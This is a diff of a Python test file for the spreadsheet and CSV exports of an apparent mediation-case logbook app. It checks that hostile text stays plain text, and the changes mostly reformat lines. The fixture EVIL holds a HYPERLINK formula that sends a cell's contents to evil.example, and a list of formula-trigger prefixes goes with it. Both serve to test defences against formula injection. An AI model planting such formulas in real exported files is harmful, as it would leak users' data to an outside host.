@@ -34,14 +34,10 @@ EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
 FIRST_ROW = 5  # the logbook sheet: title, period, note, header, then one row per case
 
 
-async def set_texts(
-    db: Database, *, team: str, mediator: str, summary: str, agreement: str
-) -> None:
+async def set_texts(db: Database, *, team: str, mediator: str, summary: str, agreement: str) -> None:
     async with db.uow() as uow:
         (await uow.session.scalar(select(Unit).where(Unit.name == "Tổ hòa giải 1"))).name = team
-        (
-            await uow.session.scalar(select(Person).where(Person.full_name == "Hòa Giải A"))
-        ).full_name = mediator
+        (await uow.session.scalar(select(Person).where(Person.full_name == "Hòa Giải A"))).full_name = mediator
         for case in await uow.session.scalars(select(Case)):
             case.summary, case.agreement = summary, agreement
         await uow.commit()
@@ -66,21 +62,11 @@ def parse_csv(data: bytes) -> list[list[str]]:
 
 def logbook_rows(wb) -> list[tuple]:
     stt = COLUMNS.index("stt")
-    return [
-        r
-        for r in wb.worksheets[0].iter_rows(min_row=FIRST_ROW, values_only=True)
-        if isinstance(r[stt], int)
-    ]
+    return [r for r in wb.worksheets[0].iter_rows(min_row=FIRST_ROW, values_only=True) if isinstance(r[stt], int)]
 
 
 def formula_cells(wb) -> list[str]:
-    return [
-        c.coordinate
-        for ws in wb.worksheets
-        for row in ws.iter_rows()
-        for c in row
-        if c.data_type == "f"
-    ]
+    return [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
 
 
 async def test_text_that_looks_like_a_formula_stays_text(db, world, engine):
@@ -102,9 +88,7 @@ async def test_text_that_looks_like_a_formula_stays_text(db, world, engine):
     assert not any(looks_like_formula(f) for f in fields)
 
 
-async def test_control_and_noncharacters_in_stored_names_do_not_break_the_reports(
-    db, world, engine
-):
+async def test_control_and_noncharacters_in_stored_names_do_not_break_the_reports(db, world, engine):
     """Rows stored before the cleaning (a mediator named «Minh<ESC>», a summary with U+FFFF):
     the team's and the ward's /baocao still export, and the files open."""
     await seed_ward(db, world)
@@ -124,9 +108,7 @@ async def test_control_and_noncharacters_in_stored_names_do_not_break_the_report
 
 
 # --- the property ---------------------------------------------------------------------------
-PREFIXES = st.sampled_from(
-    ["", "", "=", "+", "-", "@", "\t", "\r", "\r\n", " =", "\t=", "\uff1d", "\n@"]
-)
+PREFIXES = st.sampled_from(["", "", "=", "+", "-", "@", "\t", "\r", "\r\n", " =", "\t=", "\uff1d", "\n@"])
 PIECES = st.sampled_from(
     [
         EVIL,
@@ -153,12 +135,8 @@ PIECES = st.sampled_from(
         "0912 345 678",
     ]
 )
-ANY_TEXT = st.text(
-    st.characters(exclude_categories=("Cs",)), max_size=12
-)  # the store refuses surrogates
-HOSTILE = st.builds(
-    lambda p, parts: p + "".join(parts), PREFIXES, st.lists(st.one_of(PIECES, ANY_TEXT), max_size=4)
-)
+ANY_TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=12)  # the store refuses surrogates
+HOSTILE = st.builds(lambda p, parts: p + "".join(parts), PREFIXES, st.lists(st.one_of(PIECES, ANY_TEXT), max_size=4))
 NAMES = st.lists(HOSTILE, min_size=1, max_size=3)
 
 
@@ -206,9 +184,7 @@ class Store:
                     "place": texts["place"],
                 }
                 case.summary, case.agreement = texts["summary"], texts["agreement"]
-                uow.session.add(
-                    CaseEvent(case_id=case.id, at=START, kind="note", text=texts["note"])
-                )
+                uow.session.add(CaseEvent(case_id=case.id, at=START, kind="note", text=texts["note"]))
             await uow.commit()
 
     async def export(self, with_parties: bool):
@@ -252,7 +228,10 @@ def check(done, texts: dict) -> None:
 def test_hostile_text_in_every_field_gives_files_that_open_with_text_cells_only():
     store = Store()
 
-    @settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
+    # each example is a whole ward's export: a tenth of the profile's count (4 by default, 40 in CI)
+    @settings(
+        max_examples=max(4, settings.default.max_examples // 10), deadline=None, suppress_health_check=list(HealthCheck)
+    )
     @given(
         st.fixed_dictionaries(
             {
